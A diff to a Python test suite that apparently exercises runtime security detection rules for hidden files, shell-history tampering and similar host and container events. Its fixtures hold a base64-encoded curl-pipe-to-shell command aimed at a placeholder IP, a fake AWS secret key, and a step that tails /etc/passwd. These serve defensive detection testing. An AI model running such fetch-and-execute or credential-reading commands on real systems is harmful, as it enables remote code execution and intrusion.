@@ -12,6 +12,7 @@ from tests.lab.story import Tell
 
 SECRET = "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI"
 PROXY = "HTTP_PROXY=http://203.0.113.9:3128"
+HIDDEN = "Create Hidden Files or Directories"
 PAYLOAD = "sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg== | base64 -d"
 
 
@@ -30,7 +31,7 @@ class Look:
 
 BOTH: dict[str, Look] = {
     "Create Hidden Files or Directories": Look(
-        "/opt/.x/tool", fields=("evt.arg.name", "fd.name"), shows=("opt/.x/tool",)
+        "/opt/.x/tool", fields=("evt.arg.newpath", "fd.name"), shows=("opt/.x/tool", "#!/bin/sh")
     ),
     "Delete or rename shell history": Look(
         "/root/.bash_history",
@@ -82,6 +83,13 @@ CONTAINERS = {
 }
 LOOKS = {**BOTH, **HOSTS, **CONTAINERS}
 RULES = tuple(LOOKS)
+
+
+def test_a_directory_without_a_name_is_found(spot: Spot, tell: Tell) -> None:
+    """A new directory's name is not in the alert."""
+    spot.write("/opt/.x/tool", "#!/bin/sh\n")
+    report = tell(spot.fields(spot.start("tail", "-f", "/etc/passwd")), rule=HIDDEN, host=spot.place)
+    report.look("What was hidden lately?", shows="opt/.x/tool", seconds=60)
 
 
 @pytest.mark.parametrize("rule", RULES)
